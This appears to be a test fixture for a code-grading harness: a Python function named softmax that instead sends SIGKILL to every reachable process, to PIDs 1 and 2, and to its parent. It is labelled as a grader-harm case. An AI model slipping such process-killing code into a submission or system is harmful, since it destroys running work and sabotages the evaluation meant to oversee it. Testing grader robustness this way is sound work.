# class: grader harm (signals to every process, the parent, the group)
# expect: wrong_answer runtime_error
import os
import signal


def softmax(x, axis=-1):
    for target in (-1, 1, 2, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return x
